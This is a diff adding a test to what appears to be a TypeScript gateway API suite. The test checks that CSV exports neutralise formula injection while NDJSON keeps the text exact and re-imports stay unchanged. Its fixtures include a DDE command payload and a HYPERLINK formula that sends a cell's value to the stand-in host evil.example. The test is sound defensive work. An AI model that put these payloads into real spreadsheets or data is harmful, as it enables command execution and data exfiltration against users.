@@ -132,3 +132,36 @@ t.test('100,000 rows in one streamed request', async (t) => {
   t.equal(over.status, 413);
   t.match(over.json.message, /registry.importMaxRows/);
 });
+
+t.test('CSV exports write formula-like text as text; NDJSON stays exact; both re-import unchanged', async (t) => {
+  const gw = await startGateway(t);
+  await smallTree(gw);
+  const risky = [
+    ['f1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
+    ['f2', '+1 gate', '-2 floor, car park'],
+    ['f3', '@SUM(1+1)', 'plain address'],
+  ];
+  for (const [id, name, address] of risky) {
+    const res = await gw.api('POST', '/api/sources', { token: gw.adminToken, body: camera(id!, 'townA', { name, address, tags: ['=x', 'ok'] }) });
+    t.equal(res.status, 201, res.body);
+  }
+  const csv = await gw.api('GET', '/api/sources/export?format=csv', { token: gw.adminToken });
+  const lines = csv.body.trim().split('\n');
+  t.equal(lines.length, 4);
+  t.match(lines[1], /^f1,'=cmd\|' \/C calc'!A0,townA,\w+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
+  t.match(lines[2], /^f2,'\+1 gate,townA,\w+,"'-2 floor, car park",/);
+  t.match(lines[3], /^f3,'@SUM\(1\+1\),townA,\w+,plain address,/);
+  t.match(lines[3], /,'=x;ok,/, 'tags are one cell, neutralised too');
+  for (const line of lines.slice(1)) {
+    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), `no cell of ${line.slice(0, 3)} starts a formula`);
+  }
+
+  const ndjson = await gw.api('GET', '/api/sources/export?format=ndjson', { token: gw.adminToken });
+  const exact = ndjson.body.trim().split('\n').map((l) => JSON.parse(l) as { id: string; name: string; address: string; tags: string[] });
+  t.same(exact.map((r) => [r.id, r.name, r.address]), risky, 'NDJSON carries the text exactly');
+
+  const again = await importBody(gw, 'all-or-nothing', 'text/csv', csv.body);
+  t.match(again.json, { applied: true, created: 0, updated: 0, unchanged: 3 }, `the CSV re-imports as stored: ${again.body}`);
+  t.equal((await gw.api('GET', '/api/sources/f1', { token: gw.adminToken })).json.name, "=cmd|' /C calc'!A0");
+});
